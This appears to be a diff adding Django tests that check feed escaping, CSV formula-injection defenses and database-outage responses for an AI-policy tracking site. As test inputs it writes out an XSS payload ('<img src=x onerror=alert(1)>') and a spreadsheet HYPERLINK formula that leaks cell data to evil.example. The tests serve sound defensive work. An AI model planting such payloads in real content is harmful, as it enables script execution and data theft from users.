@@ -308,3 +308,138 @@ def test_conditional_get_answers_304_until_something_changes(client, seed, url):
     again = client.get(url, HTTP_IF_NONE_MATCH=etag)
     assert again.status_code == 200
     assert again["ETag"] != etag
+
+
+HOSTILE_TEXT = "<img src=x onerror=alert(1)> & <b>bold</b> < 3"
+
+
+def atom_summaries(client, url) -> list[str]:
+    """Each entry's <summary type="html"> as a feed reader receives it: HTML, once XML is decoded."""
+    response = client.get(url)
+    assert response.status_code == 200
+    root = ET.fromstring(response.content)
+    ns = {"atom": "http://www.w3.org/2005/Atom"}
+    summaries = root.findall("atom:entry/atom:summary", ns)
+    assert all(s.get("type") == "html" for s in summaries)
+    return [s.text or "" for s in summaries]
+
+
+class TestFeedsCarryNoLiveMarkup:
+    @pytest.mark.parametrize(
+        ("url", "edit"),
+        [
+            ("/people/feed/", lambda: Person.objects.filter(slug="yann-lecun").update(bio=HOSTILE_TEXT)),
+            ("/organizations/feed/", lambda: Organization.objects.filter(slug="ibm").update(description=HOSTILE_TEXT)),
+            ("/positions/feed/", lambda: Position.objects.filter(pk=Position.objects.first().pk).update(
+                summary=HOSTILE_TEXT)),
+            ("/policies/feed/", lambda: PolicyItem.objects.update(open_models=HOSTILE_TEXT)),
+        ],
+    )  # fmt: skip
+    def test_moderators_plain_text_is_escaped(self, client, seed, url, edit):
+        from debates.tests.html_safety import dangerous_attributes, embedding_tags_in
+
+        edit()
+        summaries = [s for s in atom_summaries(client, url) if "onerror" in s]
+        assert summaries, "the hostile text is in the feed"
+        for summary in summaries:
+            assert embedding_tags_in(summary) == set() and dangerous_attributes(summary) == []
+            assert "<" not in summary  # no element at all: the text reads as text
+            assert HOSTILE_TEXT in html_unescape(summary)  # and "<" and "&" read as typed
+
+    def test_policy_status_notes_are_escaped(self, client, seed):
+        policy = PolicyItem.objects.first()
+        policy.status_note = HOSTILE_TEXT
+        policy.status = "revoked"
+        policy.save()
+        (summary,) = [s for s in atom_summaries(client, "/policies/status-changes/feed/") if "onerror" in s]
+        assert "<" not in summary and HOSTILE_TEXT in html_unescape(summary)
+
+    def test_sanitized_comments_still_go_out_as_html(self, client, seed):
+        position = Position.objects.first()
+        Comment.objects.create(
+            position=position,
+            author_name="A",
+            body_markdown="*yes*",
+            body_html="<p><em>yes</em></p>",
+            status="approved",
+        )
+        (summary,) = atom_summaries(client, f"/positions/{position.slug}/comments/feed/")
+        assert summary == "<p><em>yes</em></p>"
+
+
+def html_unescape(text):
+    import html
+
+    return html.unescape(text)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
+
+
+class TestCsvFormulaInjection:
+    @pytest.fixture
+    def formulas(self, seed):
+        Person.objects.filter(slug="yann-lecun").update(bio=FORMULAS[0])
+        Organization.objects.filter(slug="ibm").update(description=FORMULAS[1], website="")
+        for position, text in zip(Position.objects.order_by("pk"), FORMULAS, strict=False):
+            position.summary = text
+            position.context = text
+            position.save()
+        PolicyItem.objects.update(status_note=FORMULAS[3])
+        Coalition.objects.update(description=FORMULAS[0])
+
+    @pytest.mark.parametrize("kind", list(exports.KINDS))
+    def test_no_cell_of_any_download_starts_like_a_formula(self, client, formulas, kind):
+        rows = list(csv.reader(io.StringIO(download(client, f"/data/{kind}.csv"), newline="")))
+        cells = [cell for row in rows for cell in row]
+        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+    def test_formulas_are_kept_as_text_with_a_leading_quote(self, client, formulas):
+        people = {r["slug"]: r for r in csv.DictReader(io.StringIO(download(client, "/data/people.csv")))}
+        assert people["yann-lecun"]["bio"] == "'" + FORMULAS[0]
+        positions = list(csv.DictReader(io.StringIO(download(client, "/data/positions.csv"), newline="")))
+        summaries = {r["summary"] for r in positions}  # written by PostgreSQL (COPY)
+        assert {"'" + text for text in FORMULAS} <= summaries
+
+    def test_json_keeps_the_original_text(self, client, formulas):
+        people = {r["slug"]: r for r in json.loads(download(client, "/data/people.json"))}
+        assert people["yann-lecun"]["bio"] == FORMULAS[0]
+        summaries = {r["summary"] for r in json.loads(download(client, "/data/positions.json"))}
+        assert set(FORMULAS) <= summaries
+
+
+@pytest.fixture
+def database_away():
+    """The database really unreachable: the connection is pointed at a port nothing listens on."""
+    import socket
+
+    from django.db import connection
+
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        closed_port = s.getsockname()[1]
+    original = dict(connection.settings_dict)
+    connection.close()
+    connection.settings_dict.update(HOST="127.0.0.1", PORT=closed_port)
+    try:
+        yield
+    finally:
+        connection.close()
+        connection.settings_dict.clear()
+        connection.settings_dict.update(original)
+
+
+@pytest.mark.django_db(transaction=True)
+@pytest.mark.parametrize("url", ["/data/people.csv", "/data/positions.csv", "/data/positions.json"])
+def test_a_download_while_the_database_is_away_is_a_styled_503_not_a_cut_off_200(client, database_away, url):
+    response = client.get(url)
+    assert response.status_code == 503
+    assert not response.streaming
+    assert response["Retry-After"] == "60"
+    assert "cannot reach its database" in response.content.decode()
+
+
+@pytest.mark.django_db(transaction=True)
+def test_healthz_with_the_database_away_is_503_with_retry_after(client, database_away):
+    response = client.get("/healthz")
+    assert response.status_code == 503 and response["Retry-After"] == "30"
